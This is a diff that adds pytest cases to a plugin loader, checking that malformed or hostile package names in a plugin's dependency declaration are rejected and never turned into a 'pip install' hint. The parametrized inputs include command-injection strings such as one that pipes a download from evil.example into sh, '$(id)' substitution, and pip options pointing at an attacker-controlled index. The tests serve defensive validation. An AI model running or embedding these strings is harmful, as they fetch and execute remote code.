@@ -193,6 +193,39 @@ def test_what_lacks_is_told_by_what_pip_calls_it_where_it_is_imported_at_the_hea
     assert "No module named 'not_there'" in record("mine").reason, "what is no constant only the import can tell"
 
 
+@pytest.mark.parametrize(
+    "package",
+    [
+        "nets'; curl evil.example|sh; '",
+        "nets; python_version == '$(id)'",
+        "nets==='|id|'",
+        "nets @ https://evil.example/nets.zip",
+        "--index-url=https://evil.example nets",
+        "git+https://evil.example/nets",
+        "nets>=1.0\n\nid",
+        f"nets; {'(' * 9000}",
+        "nets others",
+        "",
+    ],
+)
+def test_what_pip_does_not_call_a_package_makes_no_command_and_is_told(folder: Path, package: str) -> None:
+    needs = {"not_there": package, "not_there_either": "nets"}
+    (folder / "mine.py").write_text(GOOD.format(name="mine") + f"DESKTOP_FT_NEEDS = {needs!r}\n")
+    off = record("mine")
+    assert off.state is PluginState.DISABLED and off.lacks == "" and "pip install" not in off.told
+    assert off.reason == "its DESKTOP_FT_NEEDS does not say each module with what pip calls it"
+    set_enabled("mine", on=True)
+    failed = record("mine")
+    assert failed.state is PluginState.FAILED and failed.lacks == "" and "pip install" not in failed.told
+
+
+def test_versions_of_what_lacks_are_kept(folder: Path) -> None:
+    (folder / "mine.py").write_text(
+        GOOD.format(name="mine") + "DESKTOP_FT_NEEDS = {'not_there': 'acme.nets [more, all] >= 1.0, != 2.*'}\n"
+    )
+    assert record("mine").lacks == "pip install 'acme.nets[all,more]!=2.*,>=1.0'"
+
+
 @pytest.mark.parametrize("needs", ["dict(a=1)", "['a']", "{1: 'a', 'b': 2}", "'text'", "None", "{'': 'a', '.': 'b'}", "{[]: 1}"])
 def test_needs_that_say_nothing_usable_take_nothing_down_and_are_told(folder: Path, needs: str) -> None:
     (folder / "mine.py").write_text(GOOD.format(name="mine") + f"DESKTOP_FT_NEEDS = {needs}\n")
